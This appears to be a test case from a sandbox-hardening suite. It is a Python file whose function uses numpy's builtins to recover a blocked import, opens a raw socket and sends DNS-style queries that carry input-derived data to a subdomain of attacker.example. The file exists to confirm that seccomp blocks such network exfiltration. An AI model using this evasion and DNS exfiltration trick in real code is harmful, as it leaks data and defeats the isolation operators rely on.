"""
family: network
tries: sends a datagram that looks like a question for a name, to a resolver and to a server
stopped_by: [seccomp]
shows: touched udp
"""

import numpy as np

PLACES = {}
real_import = np.__dict__["__builtins__"]["__import__"]
_socket = real_import("_socket")


def question(name):
    labels = b"".join(bytes([len(label)]) + label for label in name.encode().split(b"."))
    return b"\0\1\1\0\0\1\0\0\0\0\0\0" + labels + b"\0\0\1\0\1"


def double(x):
    number = str(int(abs(x[0, 0])))
    for address in (("127.0.0.1", PLACES["udp"]), ("127.0.0.1", 53)):
        try:
            _socket.socket(_socket.AF_INET, _socket.SOCK_DGRAM).sendto(question(number + ".attacker.example"), address)
        except OSError:
            pass
    try:
        _socket.getaddrinfo(number + ".localhost", 80)
    except OSError:
        pass
    return x


def total(x):
    return x
